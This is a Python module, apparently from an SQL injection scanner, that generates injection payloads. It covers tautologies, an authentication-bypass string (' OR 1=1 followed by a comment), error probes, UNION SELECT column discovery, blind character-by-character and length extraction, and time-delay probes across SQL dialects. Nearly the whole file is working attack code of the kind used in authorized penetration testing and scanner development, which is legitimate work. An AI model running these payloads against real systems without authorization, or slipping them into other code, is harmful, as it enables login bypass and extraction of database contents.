"""Payload generation for boolean, error, UNION, blind and time probes.

All functions are pure: they take an :class:`InjectionContext` and return
:class:`PayloadSpec` values whose ``text`` is substituted verbatim for the
injected parameter's value.
"""
from __future__ import annotations

import random
import string
from dataclasses import dataclass
from enum import Enum

from .dialects import COMMENT_TOKENS, SqlDialect
from .errors import UnsupportedTechnique

MAX_UNION_COLUMNS = 20
MARKER_LENGTH = 12
BLIND_MIN_CODE = 32
BLIND_MAX_CODE = 126
BLIND_MAX_LENGTH = 1024


class Quoting(str, Enum):
    NUMERIC = "numeric"
    SINGLE_QUOTED = "single_quoted"


class Technique(str, Enum):
    BOOLEAN = "boolean"
    ERROR = "error"
    UNION = "union"
    BLIND_COMPARE = "blind_compare"
    TIME = "time"


class Effect(str, Enum):
    TRUTHY = "truthy"
    FALSY = "falsy"
    ERROR = "error"
    MARKER_ECHO = "marker_echo"
    DELAY = "delay"


_ALLOWED_EFFECTS = {
    Technique.BOOLEAN: {Effect.TRUTHY, Effect.FALSY},
    Technique.ERROR: {Effect.ERROR},
    Technique.UNION: {Effect.MARKER_ECHO},
    Technique.BLIND_COMPARE: {Effect.TRUTHY, Effect.FALSY},
    Technique.TIME: {Effect.DELAY},
}


@dataclass(frozen=True)
class InjectionContext:
    quoting: Quoting
    dialect: SqlDialect
    comment_style: str = "dash_dash"

    def __post_init__(self):
        object.__setattr__(self, "quoting", Quoting(self.quoting))
        if self.comment_style not in self.dialect.comment_styles:
            raise ValueError(
                f"dialect {self.dialect.name} does not accept comment style {self.comment_style!r}")

    @property
    def comment(self) -> str:
        return COMMENT_TOKENS[self.comment_style]

    @property
    def numeric(self) -> bool:
        return self.quoting is Quoting.NUMERIC


@dataclass(frozen=True)
class PayloadSpec:
    technique: Technique
    text: str
    expected_effect: Effect

    def __post_init__(self):
        object.__setattr__(self, "technique", Technique(self.technique))
        object.__setattr__(self, "expected_effect", Effect(self.expected_effect))
        if not self.text:
            raise ValueError("payload text must be non-empty")
        if self.expected_effect not in _ALLOWED_EFFECTS[self.technique]:
            raise ValueError(f"{self.technique.value} payload cannot expect {self.expected_effect.value}")


def _predicate(ctx: InjectionContext, base_value: str, condition: str) -> str:
    """Append ``AND condition`` to the original value, keeping quotes balanced."""
    if ctx.numeric:
        return f"{base_value} AND {condition}"
    return f"{base_value}' AND {condition} AND '1'='1"


def boolean_pair(ctx: InjectionContext, base_value: str, k: int = 1) -> tuple[PayloadSpec, PayloadSpec]:
    """Tautology/contradiction pair built around the integer ``k``."""
    if ctx.numeric:
        truthy = f"{base_value} AND {k}={k}"
        falsy = f"{base_value} AND {k}={k + 1}"
    else:
        truthy = f"{base_value}' AND '{k}'='{k}"
        falsy = f"{base_value}' AND '{k}'='{k + 1}"
    return (PayloadSpec(Technique.BOOLEAN, truthy, Effect.TRUTHY),
            PayloadSpec(Technique.BOOLEAN, falsy, Effect.FALSY))


def tautologies(ctx: InjectionContext) -> list[PayloadSpec]:
    """Classic always-true payloads, in both the spaced and the commented form."""
    if ctx.numeric:
        texts = ["0 OR 1 = 1", f"0 OR 1=1 {ctx.comment}"]
    else:
        texts = ["' OR '1' = '1", f"' OR 1=1 {ctx.comment}"]
    return [PayloadSpec(Technique.BOOLEAN, t, Effect.TRUTHY) for t in texts]


def auth_bypass(ctx: InjectionContext) -> PayloadSpec:
    return PayloadSpec(Technique.BOOLEAN, f"' OR 1=1 {ctx.comment}", Effect.TRUTHY)


def error_probe(ctx: InjectionContext, variant: int = 0) -> PayloadSpec:
    """Syntax-breaking value; ``variant`` selects among distinct malformations."""
    variants = ["1'", "1)", '1"'] if ctx.numeric else ["'", "')", "'\""]
    return PayloadSpec(Technique.ERROR, variants[variant % len(variants)], Effect.ERROR)


def new_marker(rng: random.Random | None = None) -> str:
    rng = rng or random.SystemRandom()
    return "".join(rng.choice(string.ascii_lowercase) for _ in range(MARKER_LENGTH))


def _union_prefix(ctx: InjectionContext) -> str:
    # a value matching no row, so only the UNION half renders
    return "0" if ctx.numeric else "'"


def union_select(ctx: InjectionContext, items: list[str], tail: str = "", all_rows: bool = False) -> str:
    keyword = "UNION ALL SELECT" if all_rows else "UNION SELECT"
    body = f"{_union_prefix(ctx)} {keyword} {','.join(items)}"
    if tail:
        body += f" {tail}"
    return f"{body} {ctx.comment}"


def union_payload(ctx: InjectionContext, n_columns: int, marker: str | None = None,
                  marker_column: int | None = None) -> PayloadSpec:
    if not 1 <= n_columns <= MAX_UNION_COLUMNS:
        raise ValueError(f"n_columns must be in [1, {MAX_UNION_COLUMNS}]")
    items = ["NULL"] * n_columns
    if marker is not None:
        if marker_column is None or not 1 <= marker_column <= n_columns:
            raise ValueError("marker_column must be in [1, n_columns]")
        if not marker.isalnum():
            raise ValueError("marker must be alphanumeric")
        items[marker_column - 1] = f"'{marker}'"
    return PayloadSpec(Technique.UNION, union_select(ctx, items), Effect.MARKER_ECHO)


def blind_compare_payload(ctx: InjectionContext, expr: str, index: int, relop: str, code: int,
                          base_value: str = "1") -> PayloadSpec:
    """Truthy iff ``code(char at index of expr) relop code``."""
    if index < 1:
        raise ValueError("index is 1-based")
    if not 0 <= code <= 127:
        raise ValueError("code must be in [0, 127]")
    if relop not in (">", "="):
        raise ValueError("relop must be '>' or '='")
    cond = f"{ctx.dialect.char_at(f'({expr})', index)}{relop}{code}"
    return PayloadSpec(Technique.BLIND_COMPARE, _predicate(ctx, base_value, cond), Effect.TRUTHY)


def blind_length_payload(ctx: InjectionContext, expr: str, relop: str, n: int,
                         base_value: str = "1") -> PayloadSpec:
    if relop not in (">", "="):
        raise ValueError("relop must be '>' or '='")
    if n < 0:
        raise ValueError("length bound must be non-negative")
    cond = f"{ctx.dialect.length_of(f'({expr})')}{relop}{n}"
    return PayloadSpec(Technique.BLIND_COMPARE, _predicate(ctx, base_value, cond), Effect.TRUTHY)


def time_probe(ctx: InjectionContext, delay_s: float, base_value: str = "1") -> PayloadSpec:
    if not 0.5 <= delay_s <= 10:
        raise ValueError("delay must be within [0.5, 10] seconds")
    if not ctx.dialect.supports_delay:
        raise UnsupportedTechnique(f"dialect {ctx.dialect.name} has no delay primitive")
    cond = f"{ctx.dialect.delay(delay_s)}=0"
    return PayloadSpec(Technique.TIME, _predicate(ctx, base_value, cond), Effect.DELAY)
